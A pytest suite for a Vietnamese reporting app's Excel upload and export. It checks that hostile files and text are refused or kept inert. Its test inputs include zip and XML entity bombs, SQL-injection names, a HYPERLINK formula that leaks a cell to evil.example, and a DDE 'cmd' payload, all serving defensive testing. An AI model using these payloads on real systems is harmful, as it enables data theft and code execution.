"""Hostile uploads end to end (quality.md, "Bad input"): what `reports.upload` does with files
that are broken, oversized, dangerous or made for something else, and what becomes of SQL and
emoji typed into names and cells.

`tests/unit/test_report_excel.py` proves the parser's refusals one by one; here each file goes
through the service, which must refuse it with a clear Vietnamese message and leave the draft
exactly as it was: its values, its version, its audit trail.
"""

from __future__ import annotations

import io
import random
import struct
import time
import zipfile
from collections.abc import Callable
from datetime import date

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from core import functions, hierarchy, report_excel, reports, users
from core.model import USER, Actor, UserDraft
from core.report_types import all_templates
from core.reports import ReportInfo, UploadRejected
from core.store import Db
from tests.factories import Tree, actor_at, make_admin_actor, new_cccd, unit_draft
from tests.strategies import (
    GOOD_CELLS,
    OTHER_CODE,
    TAB,
    TEMPLATE_CODE,
    TERM,
    install_templates,
    snapshot,
)

ALL = tuple(f.code for f in functions.CATALOG)
MB = 1024 * 1024
BOBBY = "Robert'); DROP TABLE unit;--"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


# -- the world: one saved draft whose owner uploads files ---------------------------------------


@pytest.fixture
def owner(db: Db, tree: Tree) -> Actor:
    install_templates(db)
    return actor_at(tree.ba_dinh_cs1, *ALL)


@pytest.fixture
def report_id(db: Db, owner: Actor) -> int:
    """A draft with a good tab saved: a refused upload must leave these values in place."""
    info = ReportInfo(TEMPLATE_CODE, TERM, date(2025, 3, 2), "Nguyễn Thị Hà", "Ban Tổ chức")
    new_id = reports.create(db, owner, info)
    reports.save_tab(db, owner, new_id, TAB, GOOD_CELLS, 1)
    return new_id


def form(db: Db, owner: Actor, code: str = TEMPLATE_CODE) -> bytes:
    """The blank form as the owner downloads it."""
    return reports.blank_form(db, owner, code)


def filled(db: Db, owner: Actor, **cells: object) -> bytes:
    """The blank form with cells typed in, addressed "row key/column key" = value."""
    wb = load_workbook(io.BytesIO(form(db, owner)))
    ws = wb[report_excel.sheet_names(all_templates(db)[TEMPLATE_CODE])[TAB]]
    good = {f"{r}/{c}": v for (r, c), v in GOOD_CELLS.items()}
    for key, value in {**good, **cells}.items():
        ws[address(db, ws, *key.split("/"))] = value
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def address(db: Db, ws: Worksheet, row_key: str, col_key: str) -> str:
    """Where a cell of the tab sits in the sheet, found by its row and column labels."""
    tab = all_templates(db)[TEMPLATE_CODE].tab(TAB)
    row_label = next(r.label for r in tab.rows if r.key == row_key)
    col_label = next(c.label for c in tab.columns if c.key == col_key)
    row = next(c.row for c in ws["A"] if c.value == row_label)
    col = next(
        c.column_letter for line in ws.iter_rows(max_row=row) for c in line if c.value == col_label
    )
    return f"{col}{row}"


def refused(db: Db, owner: Actor, report_id: int, data: bytes) -> str:
    """Upload ``data``; it must be refused, saving nothing. Returns the messages shown."""
    before = snapshot(db)
    version = db.items.get(report_id).version
    with pytest.raises(UploadRejected) as refusal:
        reports.upload(db, owner, report_id, data, version)
    assert refusal.value.field == "Tệp Excel" and "chưa lưu dữ liệu nào" in str(refusal.value)
    assert refusal.value.errors, "the person must be told what is wrong"
    assert snapshot(db) == before
    assert reports.detail(db, owner, report_id).values[TAB] == GOOD_CELLS
    return " | ".join(e.message for e in refusal.value.errors)


def rezipped(data: bytes, change: Callable[[dict[str, bytes]], None]) -> bytes:
    """The workbook's zip with some members replaced or added."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    change(files)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in files.items():
            archive.writestr(name, body)
    return out.getvalue()


# -- files that are not a workbook at all ------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "phrase"),
    [
        (random.Random(7).randbytes(64 * 1024), "không phải là tệp Excel"),
        (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(4096), "không phải là tệp Excel"),
        (b"\x7fELF\x02\x01\x01\x00" + bytes(4096), "không phải là tệp Excel"),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "không phải là tệp Excel"),
        (b"PK\x03\x04" + random.Random(8).randbytes(8192), "hỏng"),
        (b"", "rỗng"),
    ],
    ids=["random-bytes", "windows-exe", "linux-elf", "pdf", "zip-header-then-noise", "empty"],
)
def test_a_file_that_is_not_a_workbook_is_refused_by_its_content(
    db: Db, owner: Actor, report_id: int, data: bytes, phrase: str
) -> None:
    assert phrase in refused(db, owner, report_id, data)


def test_a_truncated_workbook_is_refused_as_damaged(db: Db, owner: Actor, report_id: int) -> None:
    whole = filled(db, owner)
    for cut in (len(whole) // 3, len(whole) // 2, len(whole) - 30):
        assert "hỏng" in refused(db, owner, report_id, whole[:cut])


# -- size and decompression ---------------------------------------------------------------------


def never_parse(*args: object, **kwargs: object) -> None:
    raise AssertionError("the workbook was opened although its container alone refuses it")


def test_a_100_mb_payload_is_refused_by_its_size_before_it_is_parsed(
    db: Db, owner: Actor, report_id: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(report_excel, "load_workbook", never_parse)
    for data in (b"\0" * (100 * MB), filled(db, owner) + b"\0" * (100 * MB)):
        started = time.perf_counter()
        message = refused(db, owner, report_id, data)
        assert time.perf_counter() - started < 2.0
        assert "quá lớn" in message and "100.0 MB" in message and "tối đa 10.0 MB" in message


def test_a_zip_bomb_is_refused_before_it_is_inflated(
    db: Db, owner: Actor, report_id: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    bomb = rezipped(
        filled(db, owner), lambda files: files.update({"xl/media/image1.png": bytes(60 * MB)})
    )
    assert len(bomb) < MB  # sixty megabytes of zeros deflate to a few dozen kilobytes
    monkeypatch.setattr(report_excel, "load_workbook", never_parse)
    started = time.perf_counter()
    assert "nội dung quá lớn" in refused(db, owner, report_id, bomb)
    assert time.perf_counter() - started < 2.0


def test_a_zip_that_understates_its_sizes_is_refused_as_damaged(
    db: Db, owner: Actor, report_id: int
) -> None:
    """Declared sizes are what the bomb check reads; a lying archive must still fail safely."""
    sheet = "xl/worksheets/sheet1.xml"
    padded = rezipped(
        filled(db, owner),
        lambda files: files.update(
            {sheet: files[sheet].replace(b"<sheetData>", b"<sheetData>" + b" " * (80 * MB))}
        ),
    )
    data = bytearray(padded)
    with zipfile.ZipFile(io.BytesIO(padded)) as archive:
        member = archive.getinfo(sheet)
    struct.pack_into("<I", data, member.header_offset + 22, 1000)  # local header
    central = data.find(b"PK\x01\x02")
    while central >= 0:
        name_len = struct.unpack_from("<H", data, central + 28)[0]
        if bytes(data[central + 46 : central + 46 + name_len]) == sheet.encode():
            struct.pack_into("<I", data, central + 24, 1000)  # central directory
        central = data.find(b"PK\x01\x02", central + 4)
    started = time.perf_counter()
    assert "hỏng" in refused(db, owner, report_id, bytes(data))
    assert time.perf_counter() - started < 5.0


def test_an_xml_entity_bomb_inside_the_workbook_is_refused(
    db: Db, owner: Actor, report_id: int
) -> None:
    entities = '<!ENTITY a0 "lol">' + "".join(
        f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10)
    )
    laughs = (
        f'<?xml version="1.0"?><!DOCTYPE w [{entities}]>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&a9;</t></is></c></row>'
        "</sheetData></worksheet>"
    ).encode()
    for member in ("xl/worksheets/sheet1.xml", "xl/workbook.xml"):
        bomb = rezipped(filled(db, owner), lambda files, m=member: files.update({m: laughs}))
        started = time.perf_counter()
        assert "hỏng" in refused(db, owner, report_id, bomb)
        assert time.perf_counter() - started < 5.0


# -- workbooks with the wrong content ----------------------------------------------------------


def test_the_blank_form_of_another_report_type_is_refused_naming_the_expected_type(
    db: Db, owner: Actor, report_id: int
) -> None:
    message = refused(db, owner, report_id, form(db, owner, OTHER_CODE))
    assert "Tệp không đúng mẫu báo cáo “Mẫu kiểm thử dữ liệu xấu”" in message
    assert f"tệp thuộc mẫu khác ({OTHER_CODE})" in message


def test_formulas_in_value_cells_are_refused_at_their_addresses(
    db: Db, owner: Actor, report_id: int
) -> None:
    data = filled(db, owner, **{"tong/so": "=C6+C7", "moi/nu": "=1/0", "tong/ty_le": "=RAND()*100"})
    message = refused(db, owner, report_id, data)
    assert message.count("không được dùng công thức") == 3
    assert "“Tổng số” – “Số lượng”" in message and "“Kết nạp mới” – “Nữ”" in message


@pytest.mark.parametrize(
    ("cells", "phrases"),
    [
        ({"tong/so": -10}, ["“Tổng số” – “Số lượng”: không được âm"]),
        ({"moi/so": 2.5}, ["“Kết nạp mới” – “Số lượng”: phải là số nguyên"]),
        ({"moi/nu": "0,5"}, ["phải là số nguyên"]),
        ({"tong/so": -3.75, "moi/so": 1.5}, ["không được âm", "phải là số nguyên"]),
        ({"tong/ty_le": -1}, ["“Tổng số” – “Tỷ lệ (%)”: không được âm"]),
        ({"tong/so": 10**12}, ["quá lớn"]),
    ],
    ids=["negative", "fractional", "decimal-comma", "both", "negative-percent", "huge"],
)
def test_negative_and_fractional_counts_are_refused_with_the_reason(
    db: Db, owner: Actor, report_id: int, cells: dict[str, object], phrases: list[str]
) -> None:
    message = refused(db, owner, report_id, filled(db, owner, **cells))
    for phrase in phrases:
        assert phrase in message


# -- hostile text is data, never code ------------------------------------------------------------


def test_sql_and_emoji_in_text_cells_are_stored_verbatim_and_harm_nothing(
    db: Db, owner: Actor, report_id: int
) -> None:
    note = "Robert'); DROP TABLE report_cell;-- 😀🇻🇳 Đã hoàn thành"
    formula_like = "=1+1 là công thức? Không, đây là ghi chú"
    typed = {**GOOD_CELLS, ("tong", "ghi_chu"): note, ("moi", "ghi_chu"): formula_like}
    template = all_templates(db)[TEMPLATE_CODE]  # a downloaded report keeps text as text
    data = report_excel.report_workbook(template, {TAB: typed}, ["Báo cáo"])
    reports.upload(db, owner, report_id, data, db.items.get(report_id).version)
    values = reports.detail(db, owner, report_id).values[TAB]
    assert values[("tong", "ghi_chu")] == note and values[("moi", "ghi_chu")] == formula_like
    assert db.scalar("SELECT count(*) FROM report_cell WHERE report_id = ?", [report_id]) >= 7
    sheet = load_workbook(io.BytesIO(reports.excel(db, owner, report_id))).worksheets[0]
    texts = {c.value: c.data_type for line in sheet.iter_rows() for c in line if c.value}
    assert texts[note] == "s" and texts[formula_like] == "s"


def test_a_unit_named_with_sql_round_trips_and_the_unit_table_survives(db: Db, tree: Tree) -> None:
    actor = actor_at(tree.hn, functions.UNIT_MANAGE)
    units_before = len(db.units.subtree_ids(tree.root.path))
    unit = hierarchy.add_unit(
        db, actor, tree.ba_dinh.id, unit_draft(name=BOBBY, level_code="CO_SO")
    )
    assert db.units.get(unit.id).name == BOBBY
    assert [u.id for u in hierarchy.search(db, actor, BOBBY)] == [unit.id]
    assert hierarchy.detail(db, actor, unit.id).path_names[-1] == BOBBY
    assert len(db.units.subtree_ids(tree.root.path)) == units_before + 1


def test_a_person_named_with_sql_and_emoji_round_trips(db: Db, tree: Tree) -> None:
    admin = make_admin_actor(db, tree.hn)
    name = "Nguyễn 😀 Văn'); DELETE FROM app_user;--"
    draft = UserDraft(new_cccd(), name, tree.hn.id, USER, "Chuyên viên; DROP", "CHUYEN_VIEN")
    created = users.create(db, admin, draft).user
    frame, total = users.search(db, admin, users.UserFilter(name="văn'); delete"))
    assert total == 1 and frame["full_name"].to_list() == [name]
    assert db.users.get(created.id).position == "Chuyên viên; DROP"
    assert db.users.get(admin.user_id) is not None


@pytest.mark.parametrize("name", [FORMULA_NAME, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3"])
def test_a_name_that_looks_like_a_formula_is_exported_to_excel_as_text(
    db: Db, tree: Tree, name: str
) -> None:
    actor = actor_at(tree.hn, functions.UNIT_MANAGE, functions.USER_MANAGE)
    hierarchy.add_unit(db, actor, tree.ba_dinh.id, unit_draft(name=name, level_code="CO_SO"))
    admin = make_admin_actor(db, tree.hn)
    users.create(db, admin, UserDraft(new_cccd(), name, tree.hn.id, USER, name, "CHUYEN_VIEN"))
    for data in (
        hierarchy.export_xlsx(db, actor),
        users.export_xlsx(db, admin, users.UserFilter()),
    ):
        sheet = load_workbook(io.BytesIO(data)).worksheets[0]
        found = [c for line in sheet.iter_rows() for c in line if c.value == name]
        assert found and all(c.data_type == "s" for c in found)
